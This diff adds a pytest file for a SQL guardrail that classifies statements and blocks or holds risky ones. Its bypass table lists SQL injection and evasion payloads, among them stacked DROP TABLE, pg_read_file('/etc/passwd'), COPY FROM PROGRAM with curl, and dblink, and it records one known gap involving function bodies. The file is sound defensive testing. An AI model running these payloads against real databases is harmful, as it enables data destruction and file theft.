@@ -1,0 +1,225 @@
+"""SQL guard: classification tables, rule semantics, a bypass-attempt table, caching."""
+
+from __future__ import annotations
+
+import pytest
+
+from broker.config import Guardrails, Rule
+from proxy.sqlguard import SqlGuard, is_write, shape
+
+RULES = Guardrails(
+    rules=[
+        Rule(name="no-drop", action="block", statements=["drop", "truncate"]),
+        Rule(name="no-files", action="block",
+             functions=["pg_read_file", "lo_export", "dblink*", "pg_terminate_backend"]),
+        Rule(name="no-program", action="block", statements=["copy_to_program", "copy_from_program"]),
+        Rule(name="wide-writes", action="review", statements=["delete_without_where", "update_without_where"]),
+        Rule(name="orders", action="review", tables=["public.orders"], statements=["write"]),
+        Rule(name="do", action="review", statements=["do"]),
+    ],
+)
+
+
+@pytest.fixture
+def guard() -> SqlGuard:
+    return SqlGuard(RULES)
+
+
+def kinds(guard: SqlGuard, sql: str) -> set[str]:
+    return set().union(*(s.kinds for s in guard.analyse(sql).statements))
+
+
+@pytest.mark.parametrize(
+    ("sql", "expected"),
+    [
+        ("SELECT 1", {"select"}),
+        ("SELECT * FROM t FOR UPDATE", {"select", "lock"}),
+        ("INSERT INTO t VALUES (1)", {"insert", "write"}),
+        ("UPDATE t SET a = 1 WHERE id = 2", {"update", "write"}),
+        ("UPDATE t SET a = 1", {"update", "write", "update_without_where"}),
+        ("DELETE FROM t", {"delete", "write", "delete_without_where"}),
+        ("DELETE FROM t WHERE true", {"delete", "write", "delete_without_where"}),
+        ("DELETE FROM t WHERE 1 = 1", {"delete", "write", "delete_without_where"}),
+        ("DELETE FROM t WHERE id = 3", {"delete", "write"}),
+        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", {"merge", "write", "delete"}),
+        ("DROP TABLE t", {"drop", "ddl"}),
+        ("TRUNCATE t", {"truncate", "write"}),
+        ("ALTER TABLE t ADD COLUMN c int", {"alter", "ddl"}),
+        ("CREATE TABLE t (a int)", {"create", "ddl"}),
+        ("CREATE INDEX i ON t (a)", {"create", "ddl"}),
+        ("COMMENT ON TABLE t IS 'x'", {"ddl"}),
+        ("GRANT SELECT ON t TO bob", {"grant"}),
+        ("REVOKE SELECT ON t FROM bob", {"revoke"}),
+        ("COPY t TO STDOUT", {"copy"}),
+        ("COPY t FROM STDIN", {"copy", "write"}),
+        ("COPY t TO '/tmp/x'", {"copy", "copy_to_file"}),
+        ("COPY t FROM '/tmp/x'", {"copy", "write", "copy_from_file"}),
+        ("COPY t TO PROGRAM 'gzip'", {"copy", "copy_to_program"}),
+        ("COPY t FROM PROGRAM 'curl x'", {"copy", "write", "copy_from_program"}),
+        ("DO $$ BEGIN NULL; END $$", {"do"}),
+        ("CALL p()", {"call"}),
+        ("SET search_path = x", {"set"}),
+        ("LOCK TABLE t", {"lock"}),
+        ("VACUUM t", {"vacuum"}),
+        ("LISTEN ch", {"listen"}),
+        ("BEGIN", {"other"}),
+        ("SHOW work_mem", {"other"}),
+        ("SELECT 1 INTO new_t", {"create", "ddl", "write"}),
+        ("CREATE TABLE n AS SELECT 1", {"create", "ddl", "write", "select"}),
+        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'", {"create", "ddl"}),
+        ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", {"create", "ddl"}),
+        ("EXPLAIN DELETE FROM t", {"other"}),
+        ("EXPLAIN ANALYZE DELETE FROM t", {"other", "delete", "write", "delete_without_where"}),
+        ("PREPARE p AS UPDATE t SET a = 1", {"other", "update", "write", "update_without_where"}),
+        ("EXECUTE p", {"other"}),
+    ],
+)
+def test_kinds(guard: SqlGuard, sql: str, expected: set[str]) -> None:
+    assert kinds(guard, sql) == expected
+
+
+def test_tables_and_functions_are_extracted(guard: SqlGuard) -> None:
+    (st,) = guard.analyse(
+        'SELECT lower(x.a) FROM public.orders x JOIN "Items" i ON true WHERE x.id IN (SELECT s.f(1) FROM s.t)'
+    ).statements
+    assert st.tables == {"public.orders", "Items", "s.t"}
+    assert st.functions == {"lower", "s.f"}
+    (drop,) = guard.analyse("DROP TABLE a.b, c").statements
+    assert drop.tables == {"a.b", "c"}
+
+
+@pytest.mark.parametrize(
+    ("sql", "action", "rule"),
+    [
+        ("SELECT abalance FROM pgbench_accounts WHERE aid = 1", "allow", None),
+        ("DROP TABLE x", "block", "no-drop"),
+        ("DELETE FROM x", "review", "wide-writes"),
+        ("UPDATE orders SET a = 1 WHERE id = 1", "review", "orders"),  # unqualified matches public.orders
+        ("UPDATE public.orders SET a = 1 WHERE id = 1", "review", "orders"),
+        ("UPDATE other.orders SET a = 1 WHERE id = 1", "allow", None),
+        ('UPDATE U&"\\0070ublic"."ORDERS" SET a = 1 WHERE id = 1', "review", "orders"),
+        ("SELECT * FROM public.orders", "allow", None),  # selectors are ANDed: a read is not a write
+        ("SELECT 1; DROP TABLE x; DELETE FROM y", "block", "no-drop"),  # strictest statement wins
+        ("selec 1", "block", "on_unparsed"),
+    ],
+)
+def test_decisions(guard: SqlGuard, sql: str, action: str, rule: str | None) -> None:
+    d = guard.check(sql)
+    assert (d.action, d.rule) == (action, rule)
+
+
+def test_decision_names_the_statement() -> None:
+    d = SqlGuard(RULES).check("SELECT 1; SELECT 2; DROP TABLE public.orders")
+    assert d.index == 2
+    assert d.reason == 'rule "no-drop" blocks DROP TABLE public.orders'
+    assert d.kinds == {"drop", "ddl"}
+
+
+def test_first_rule_wins_and_default_applies() -> None:
+    gr = Guardrails(
+        rules=[Rule(name="r1", action="review", statements=["delete"]),
+               Rule(name="r2", action="block", statements=["delete"])],
+        default="block",
+    )
+    g = SqlGuard(gr)
+    assert (g.check("DELETE FROM t WHERE id = 1").rule) == "r1"
+    assert g.check("SELECT 1").action == "block"
+    assert g.check("SELECT 1").rule is None
+
+
+def test_allowlist_cannot_be_bypassed_by_a_data_modifying_cte() -> None:
+    g = SqlGuard(Guardrails(rules=[Rule(name="reads", action="allow", statements=["select"])], default="block"))
+    assert g.check("SELECT 1").action == "allow"
+    assert g.check("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x").action == "block"
+
+
+def test_non_sql_rules_never_match() -> None:
+    g = SqlGuard(Guardrails(rules=[Rule(name="shell", action="block", commands=["rm"], statements=["select"])]))
+    assert g.check("SELECT 1").action == "allow"
+
+
+def test_on_unparsed_policy_is_configurable() -> None:
+    g = SqlGuard(Guardrails(on_unparsed="review"))
+    d = g.check("SELEC")
+    assert (d.action, d.rule) == ("review", "on_unparsed")
+
+
+# (sql, outcome): "caught" is blocked or held for review; "harmless" is rightly allowed (no hidden
+# statement runs); "limit" is a documented limit (allowed although risky).
+BYPASSES = [
+    ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "caught"),
+    ("WITH x AS (SELECT 1) DELETE FROM t", "caught"),
+    ("SELECT 1; DROP TABLE t", "caught"),
+    ("SELECT 1;DROP TABLE t;", "caught"),
+    ("/* harmless */ DROP TABLE t", "caught"),
+    ("SELECT 1 -- ; DROP TABLE t\n; DROP TABLE u", "caught"),
+    ("SELECT 1 /* ; DROP TABLE t */", "harmless"),  # really only a comment: nothing to catch
+    ("DrOp TaBlE t", "caught"),
+    ('DROP TABLE "Orders"', "caught"),
+    ('SELECT * FROM "DROP TABLE t"', "harmless"),  # an identifier that merely reads like a drop
+    ("DO $$ BEGIN DROP TABLE t; END $$", "caught"),
+    ("DO $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$", "caught"),
+    ("DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$", "caught"),  # computed: on_unparsed
+    ("DO LANGUAGE plpython3u $$ import os $$", "caught"),
+    ("EXPLAIN ANALYZE DELETE FROM t", "caught"),
+    ("EXPLAIN (ANALYZE, FORMAT JSON) DROP TABLE t", "caught"),  # DDL cannot be EXPLAINed: parse error -> block
+    ("EXPLAIN (ANALYZE false) DELETE FROM t", "caught"),  # any analyze option counts, whatever its value
+    ("SELECT * FROM (SELECT pg_read_file('/etc/passwd')) s", "caught"),
+    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "caught"),
+    ('SELECT "pg_catalog"."PG_READ_FILE"(\'x\')', "caught"),  # quoted mixed case: globs are case-insensitive
+    ("SELECT 1 WHERE EXISTS (SELECT lo_export(1, '/tmp/x'))", "caught"),
+    ("SELECT * FROM dblink('host=x', 'DROP TABLE t') AS r(a text)", "caught"),
+    ("CREATE TABLE z (a text DEFAULT pg_read_file('/etc/passwd'))", "caught"),
+    ("COPY (SELECT 1) TO PROGRAM 'x'", "caught"),
+    ("copy t from program $$curl evil$$", "caught"),
+    ('SELECT * FROM U&"\\0070ublic".orders; DROP TABLE t', "caught"),
+    ("SELECT U&'\\0044ROP TABLE t'", "harmless"),  # a string literal, not a statement
+    ("SELECT $$; DROP TABLE t; $$", "harmless"),  # dollar-quoted literal: nothing runs
+    ("SELECT $a$ x $a$; DROP TABLE t", "caught"),
+    ("PREPARE p AS DROP TABLE t", "caught"),  # syntax error (PREPARE takes DML only) -> on_unparsed
+    ("PREPARE p AS DELETE FROM t", "caught"),
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE t'; SELECT f()", "limit"),  # UDF bodies
+]
+
+
+@pytest.mark.parametrize(("sql", "outcome"), BYPASSES)
+def test_bypass_attempts(sql: str, outcome: str) -> None:
+    d = SqlGuard(RULES).check(sql)
+    assert (d.action != "allow") is (outcome == "caught"), d.reason
+
+
+def test_do_execute_of_computed_string_is_unparsed() -> None:
+    d = SqlGuard(Guardrails()).check("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$")
+    assert (d.action, d.rule) == ("block", "on_unparsed")
+
+
+def test_is_write() -> None:
+    g = SqlGuard(Guardrails())
+    assert not is_write(g.analyse("SELECT 1; SHOW x").statements)
+    assert is_write(g.analyse("SELECT 1; INSERT INTO t VALUES (1)").statements)
+    assert is_write(g.analyse("WITH x AS (UPDATE t SET a = 1 RETURNING 1) SELECT 1").statements)
+
+
+@pytest.mark.parametrize(
+    ("sql", "expected"),
+    [
+        ("SELECT a FROM t WHERE id = 123 AND b = 'x'", "SELECT a FROM t WHERE id = ? AND b = ?"),
+        ('SELECT "t1".a FROM "t 2" WHERE x = 1.5e3', 'SELECT "t1".a FROM "t 2" WHERE x = ?'),
+        ("SELECT t1 FROM x WHERE a = $1", "SELECT t1 FROM x WHERE a = $1"),
+        ("SELECT 1 -- c", None),
+        ("SELECT /* c */ 1", None),
+        ("SELECT E'\\''", None),
+        ("SELECT $$x$$", None),
+        ('SELECT U&"x"', None),
+    ],
+)
+def test_shape(sql: str, expected: str | None) -> None:
+    assert shape(sql) == expected
+
+
+def test_cache_by_shape_shares_results_but_not_for_do_bodies() -> None:
+    g = SqlGuard(RULES)
+    a = g.analyse("SELECT abalance FROM pgbench_accounts WHERE aid = 1")
+    assert g.analyse("SELECT abalance FROM pgbench_accounts WHERE aid = 2") is a
+    assert g.check("DO 'BEGIN NULL; END'").action == "review"
+    assert g.check("DO 'BEGIN DROP TABLE t; END'").action == "block"
